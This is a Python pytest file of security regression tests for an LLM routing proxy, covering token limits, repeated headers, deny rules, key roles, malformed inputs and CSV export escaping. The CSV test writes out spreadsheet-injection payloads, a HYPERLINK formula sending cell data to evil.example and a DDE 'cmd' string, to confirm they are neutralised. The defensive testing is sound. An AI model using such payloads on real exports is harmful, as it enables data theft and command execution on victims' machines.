"""Attacks on the policy over real HTTP (issue 11): each test fails without its fix."""

from __future__ import annotations

import csv
import io
import json
import secrets
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from proxy import report
from proxy.cli import main
from tests.conftest import Proxy, copy_policies, proxy_settings
from tests.fake_mistral import FakeMistral

MODEL = "magistral-small-2509"
HELLO = [{"role": "user", "content": "hi"}]
CAP = 8192  # eu-standard's max_output_tokens, and the seed route's


def chat(proxy: Proxy, key: str, headers: list[tuple[str, str | bytes]] | None = None,
         **body: object) -> httpx.Response:
    # A list of pairs: httpx sends every one of them, repeated names included.
    return httpx.post(f"{proxy.url}/chat/completions", timeout=30,
                      headers=[("authorization", f"Bearer {key}"), *(headers or [])],
                      json={"model": MODEL, "messages": HELLO, **body})


# -- 1. one output-token limit ------------------------------------------------------------------

def test_two_different_token_limits_are_refused(proxy: Proxy, app_key: str,
                                                fake: FakeMistral) -> None:
    r = chat(proxy, app_key, max_completion_tokens=10, max_tokens=500_000)
    assert r.status_code == 400
    assert r.json()["error"]["param"] == "max_completion_tokens"
    assert "max_tokens" in r.json()["error"]["message"]
    assert fake.received == []
    # The same value under both names is one limit, and that is what the upstream gets.
    assert chat(proxy, app_key, max_completion_tokens=10, max_tokens=10).status_code == 200
    assert fake.last.json["max_tokens"] == 10


def test_no_limit_sent_means_the_policy_cap(proxy: Proxy, app_key: str,
                                            fake: FakeMistral) -> None:
    r = chat(proxy, app_key)
    assert r.status_code == 200
    assert fake.last.json["max_tokens"] == CAP
    decision = json.loads(proxy.row(r.headers["x-request-id"])["decision"])
    assert decision["input"]["max_tokens"] == CAP


limits = st.one_of(st.none(), st.integers(1, 3 * CAP), st.integers(1, 2**40))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(newer=limits, older=limits)
def test_the_upstream_never_gets_more_than_the_policy_admitted(
        proxy: Proxy, app_key: str, upstream: FakeMistral, newer: int | None,
        older: int | None) -> None:
    upstream.reset()
    r = chat(proxy, app_key, max_completion_tokens=newer, max_tokens=older)
    if r.status_code != 200:
        assert r.status_code in (400, 403), r.text
        assert upstream.received == []
        return
    admitted = json.loads(proxy.row(r.headers["x-request-id"])["decision"])["input"]["max_tokens"]
    sent = upstream.last.json
    assert "max_completion_tokens" not in sent
    assert sent["max_tokens"] == admitted <= CAP
    assert admitted in {v for v in (newer, older) if v is not None} or admitted == CAP


# -- 2. repeated headers ------------------------------------------------------------------------

def test_every_copy_of_x_euroute_require_narrows(proxy: Proxy, app_key: str,
                                                 fake: FakeMistral) -> None:
    # eu-standard reaches Mistral only; no ZDR contract with Mistral, so zdr must deny.
    for second in ("eu", "", "no-training"):
        r = chat(proxy, app_key, headers=[("x-euroute-require", "zdr"),
                                          ("x-euroute-require", second)])
        assert r.status_code == 403, (second, r.text)
        assert "zero_data_retention" in {x["requirement"] for x in r.json()["error"]["reasons"]}
    assert fake.received == []
    r = chat(proxy, app_key, headers=[("x-euroute-require", "eu"), ("x-euroute-require", "")])
    assert r.status_code == 200


def test_conflicting_authorization_headers_are_refused(proxy: Proxy, app_key: str,
                                                       fake: FakeMistral) -> None:
    other = proxy.key("support-bot", "eu-standard")
    r = httpx.post(f"{proxy.url}/chat/completions", timeout=30,
                   headers=[("authorization", f"Bearer {app_key}"),
                            ("authorization", f"Bearer {other}")],
                   json={"model": MODEL, "messages": HELLO})
    assert r.status_code == 401 and "more than once" in r.json()["error"]["message"]
    assert fake.received == []


def test_conflicting_end_user_headers_are_refused(proxy: Proxy, app_key: str,
                                                  fake: FakeMistral) -> None:
    r = chat(proxy, app_key, headers=[("x-euroute-user", "alice"), ("x-euroute-user", "bob")])
    assert r.status_code == 400 and r.json()["error"]["param"] == "x-euroute-user"
    assert fake.received == []


# -- 3. deny rules match every name of a model --------------------------------------------------

@pytest.fixture
def denying(db_url: str, upstream: FakeMistral, tmp_path: Path) -> Iterator[Proxy]:
    policy_dir = copy_policies(tmp_path / "policies")
    (policy_dir / "no-magistral.policy.yaml").write_text(
        "name: no-magistral\nmodels:\n  deny: ['magistral-*']\n")
    with Proxy(proxy_settings(db_url, policy_dir)) as server:
        yield server


def test_a_model_denied_under_one_name_is_denied_under_all(denying: Proxy,
                                                           fake: FakeMistral) -> None:
    key = denying.key("shadow-app", "no-magistral")
    for name in ("magistral-small-2509", "mistral/magistral-small-2509",
                 "selfhosted/magistral-small-2509"):
        r = httpx.post(f"{denying.url}/chat/completions", timeout=30,
                       headers={"authorization": f"Bearer {key}"},
                       json={"model": name, "messages": HELLO})
        assert r.status_code == 403, (name, r.text)
        assert "matches deny rule 'magistral-*'" in r.json()["error"]["reasons"][0]["message"]
    listed = httpx.get(f"{denying.url}/models", headers={"authorization": f"Bearer {key}"})
    assert "magistral" not in listed.text
    assert fake.received == []


# -- 4. only app keys call the models -----------------------------------------------------------

@pytest.mark.parametrize("role", ["auditor", "admin"])
def test_only_app_keys_call_the_models(proxy: Proxy, role: str, fake: FakeMistral) -> None:
    key = proxy.key("compliance", "eu-standard", role)
    r = chat(proxy, key)
    assert r.status_code == 403
    error = r.json()["error"]
    assert error["type"] == "permission_error" and "only app keys" in error["message"]
    assert proxy.row(r.headers["x-request-id"])["outcome"] == "forbidden"
    r = httpx.post(f"{proxy.url}/embeddings", headers={"authorization": f"Bearer {key}"},
                   json={"model": "mistral-embed", "input": "x"})
    assert r.status_code == 403
    r = httpx.get(f"{proxy.url}/models", headers={"authorization": f"Bearer {key}"})
    assert r.status_code == 403 and r.json()["error"]["type"] == "permission_error"
    assert fake.received == []


# -- 8. client values bound for the ledger ------------------------------------------------------

@pytest.mark.parametrize(("field", "value"), [
    ("model", "magistral\x00small"), ("model", "m" * 201), ("user", "alice\x00"),
    ("user", "u" * 257), ("user", 42), ("user", "tab\there"),
])
def test_client_values_that_the_ledger_cannot_take_are_400(proxy: Proxy, app_key: str,
                                                           fake: FakeMistral, field: str,
                                                           value: object) -> None:
    r = chat(proxy, app_key, **{field: value})
    assert r.status_code == 400 and r.json()["error"]["param"] == field, r.text
    row = proxy.row(r.headers["x-request-id"])
    assert row["outcome"] == "invalid_request" and "\x00" not in row["model"]
    assert fake.received == []
    # The ledger still takes rows afterwards.
    ok = chat(proxy, app_key)
    assert ok.status_code == 200 and proxy.row(ok.headers["x-request-id"])["outcome"] == "ok"


# -- 10. inputs that gave a 500 -----------------------------------------------------------------

def nested(depth: int) -> object:
    value: object = "deep"
    for i in range(depth):
        value = [value] if i % 2 else {"a": value}
    return value


@pytest.mark.parametrize("depth", [300, 1024, 5000])
@pytest.mark.parametrize("where", ["content", "tools"])
def test_deep_nesting_is_a_400(proxy: Proxy, app_key: str, fake: FakeMistral, depth: int,
                               where: str) -> None:
    # Built by hand: the JSON encoders of the test's own libraries stop at such depths too.
    inner = "[" * depth + "1" + "]" * depth
    messages = (f'[{{"role": "user", "content": {inner}}}]' if where == "content"
                else '[{"role": "user", "content": "hi"}]')
    tools = f', "tools": [{{"type": "function", "function": {inner}}}]' if where == "tools" else ""
    body = f'{{"model": "{MODEL}", "messages": {messages}{tools}}}'
    r = httpx.post(f"{proxy.url}/chat/completions", content=body, timeout=30,
                   headers={"authorization": f"Bearer {app_key}",
                            "content-type": "application/json"})
    assert r.status_code == 400, r.text
    assert r.json()["error"]["type"] == "invalid_request_error"
    assert fake.received == []


def test_nesting_a_real_request_needs_passes(proxy: Proxy, app_key: str, fake: FakeMistral) -> None:
    schema: dict[str, object] = {"type": "string"}
    for _ in range(20):
        schema = {"type": "object", "properties": {"x": schema}}
    tools = [{"type": "function", "function": {"name": "f", "parameters": schema}}]
    assert chat(proxy, app_key, tools=tools).status_code == 200
    assert fake.last.json["tools"] == tools


@pytest.fixture(scope="module")
def auditor(proxy: Proxy) -> str:
    return proxy.key("compliance", "eu-standard", "auditor")


@pytest.mark.parametrize(("path", "param", "value"), [
    ("usage", "to", "9999-12-31"),
    ("usage", "from", "0001-01-01T00:00:00+14:00"),
    ("usage", "from", "２０２６-01-01"),
    ("transfers", "limit", "²"),
    ("transfers", "limit", "99999999999999999999999"),
    ("transfers", "limit", "0"),
    ("retention", "as_of", "9999-12-31"),
    ("usage", "app", "\x00"),
    ("usage", "model", "magistral\x00"),
    ("decisions", "route", "r" * 101),
    ("export", "outcome", "ok\x00"),
    ("contracts", "policy", "\x00"),
])
def test_bad_audit_filters_are_400_naming_the_parameter(proxy: Proxy, auditor: str, path: str,
                                                        param: str, value: str) -> None:
    r = httpx.get(f"{proxy.url}/audit/{path}", params={param: value}, timeout=30,
                  headers={"authorization": f"Bearer {auditor}"})
    assert r.status_code == 400, r.text
    assert r.json()["error"]["param"] == param


@pytest.mark.parametrize("path", ["decisions", "requests"])
def test_bad_ids_in_the_path_are_400(proxy: Proxy, auditor: str, path: str) -> None:
    for ident in ("dec_%00", "x" * 41):
        r = httpx.get(f"{proxy.url}/audit/{path}/{ident}", timeout=30,
                      headers={"authorization": f"Bearer {auditor}"})
        assert r.status_code == 400 and r.json()["error"]["param"] == "id"


def test_repeated_query_parameters_are_refused(proxy: Proxy, app_key: str) -> None:
    r = httpx.get(f"{proxy.url}/usage", params=[("app", "support-bot"), ("app", "other")],
                  headers={"authorization": f"Bearer {app_key}"}, timeout=30)
    assert r.status_code == 400 and r.json()["error"]["param"] == "app"


# -- 7. CSV exports are not spreadsheet formulas ------------------------------------------------

def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


def test_csv_exports_neutralise_formulas(proxy: Proxy, auditor: str, fake: FakeMistral,
                                         monkeypatch: pytest.MonkeyPatch,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    app = "csv-" + secrets.token_hex(4)
    key = proxy.key(app, "eu-standard")
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
               "@SUM(A1:A9)"]
    for model in hostile:
        r = chat(proxy, key, model=model)
        assert r.status_code == 404  # unknown model, but the row records the model asked for
        proxy.row(r.headers["x-request-id"])
    auth = {"authorization": f"Bearer {auditor}"}
    exported = [
        httpx.get(f"{proxy.url}/audit/export", params={"app": app}, headers=auth).text,
        httpx.get(f"{proxy.url}/audit/usage", headers=auth,
                  params={"app": app, "group_by": "model", "format": "csv"}).text,
    ]
    monkeypatch.setenv("EUROUTE_DATABASE_URL", proxy.settings.database_url)
    monkeypatch.setenv("EUROUTE_POLICY_DIR", str(proxy.settings.policy_dir))
    assert main(["audit", "export", "--app", app]) == 0
    exported.append(capsys.readouterr().out)
    assert main(["audit", "usage", "--app", app, "--group-by", "model", "--format", "csv"]) == 0
    exported.append(capsys.readouterr().out)
    for text in exported:
        found = cells(text)
        for model in hostile:
            assert "'" + model in found and model not in found
        assert not any(c.startswith(report._FORMULA) for c in found)


def test_csv_neutralises_tab_and_cr_but_not_numbers() -> None:
    rows = [{"a": "\tx", "b": "\r=1", "c": -5, "d": "plain", "e": ""}]
    assert list(csv.reader(io.StringIO("".join(report.csv_lines(rows)), newline=""))) == [
        ["a", "b", "c", "d", "e"], ["'\tx", "'\r=1", "-5", "plain", ""]]


# -- 5. separation of duties --------------------------------------------------------------------

def test_admin_over_http_manages_app_keys_only_and_every_change_is_recorded(
        proxy: Proxy, auditor: str, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    admin = proxy.key("platform", "eu-standard", "admin")
    admin_id = proxy.gateway.keys.get(admin).id
    as_admin = {"authorization": f"Bearer {admin}"}
    for role in ("auditor", "admin"):
        r = httpx.post(f"{proxy.url}/admin/keys", headers=as_admin,
                       json={"app": "compliance", "policy": "eu-standard", "role": role})
        assert r.status_code == 403 and r.json()["error"]["param"] == "role", r.text
        assert "CLI" in r.json()["error"]["message"]
    # An auditor key made with the CLI cannot be revoked over HTTP either.
    other_auditor = proxy.key("compliance", "eu-standard", "auditor")
    other_id = proxy.gateway.keys.get(other_auditor).id
    r = httpx.post(f"{proxy.url}/admin/keys/{other_id}/revoke", headers=as_admin)
    assert r.status_code == 403, r.text
    assert httpx.get(f"{proxy.url}/audit/key-events",
                     headers={"authorization": f"Bearer {other_auditor}"}).status_code == 200

    app = "events-" + secrets.token_hex(4)
    made = httpx.post(f"{proxy.url}/admin/keys", headers=as_admin,
                      json={"app": app, "policy": "eu-standard"}).json()
    assert httpx.post(f"{proxy.url}/admin/keys/{made['id']}/revoke",
                      headers=as_admin).status_code == 200
    monkeypatch.setenv("EUROUTE_DATABASE_URL", proxy.settings.database_url)
    monkeypatch.setenv("EUROUTE_POLICY_DIR", str(proxy.settings.policy_dir))
    assert main(["keys", "revoke", other_id]) == 0

    events = httpx.get(f"{proxy.url}/audit/key-events", headers={"authorization":
                                                                 f"Bearer {auditor}"}).json()["data"]
    seen = {(e["actor"], e["action"], e["key_id"], e["role"], e["app"]) for e in events}
    assert {(admin_id, "created", made["id"], "app", app),
            (admin_id, "revoked", made["id"], "app", app),
            ("cli", "created", other_id, "auditor", "compliance"),
            ("cli", "revoked", other_id, "auditor", "compliance")} <= seen
    assert all(e["at"].endswith("+00:00") for e in events)
    capsys.readouterr()
    assert main(["audit", "key-events", "--format", "json"]) == 0
    from_cli = json.loads(capsys.readouterr().out)
    assert {(e["actor"], e["action"], e["key_id"]) for e in from_cli} >= {
        (admin_id, "created", made["id"]), ("cli", "revoked", other_id)}
    # Neither an admin nor an app reads the events; and no secret is in them.
    for key in (admin, proxy.key(app, "eu-standard")):
        r = httpx.get(f"{proxy.url}/audit/key-events", headers={"authorization": f"Bearer {key}"})
        assert r.status_code == 403
    assert made["key"] not in json.dumps(events)


@pytest.mark.parametrize("app", ["a\x00b", "a" * 101, "tab\there"])
def test_an_app_name_the_key_table_cannot_hold_is_refused(proxy: Proxy, app: str,
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]
                                                          ) -> None:
    admin = proxy.key("platform", "eu-standard", "admin")
    r = httpx.post(f"{proxy.url}/admin/keys", headers={"authorization": f"Bearer {admin}"},
                   json={"app": app, "policy": "eu-standard"})
    assert r.status_code == 400 and r.json()["error"]["param"] == "app"
    r = httpx.post(f"{proxy.url}/admin/keys/key_%00/revoke",
                   headers={"authorization": f"Bearer {admin}"})
    assert r.status_code == 400 and r.json()["error"]["param"] == "id"
    if "\x00" not in app:  # a command line cannot carry NUL
        monkeypatch.setenv("EUROUTE_DATABASE_URL", proxy.settings.database_url)
        monkeypatch.setenv("EUROUTE_POLICY_DIR", str(proxy.settings.policy_dir))
        assert main(["keys", "create", "--app", app, "--policy", "eu-standard"]) == 2
        assert "printable" in capsys.readouterr().err


def test_a_non_ascii_end_user_header_is_taken(proxy: Proxy, app_key: str,
                                              fake: FakeMistral) -> None:
    r = chat(proxy, app_key, headers=[("x-euroute-user", "Jiří Dvořák".encode())])
    assert r.status_code == 200, r.text
    assert proxy.row(r.headers["x-request-id"])["end_user"]
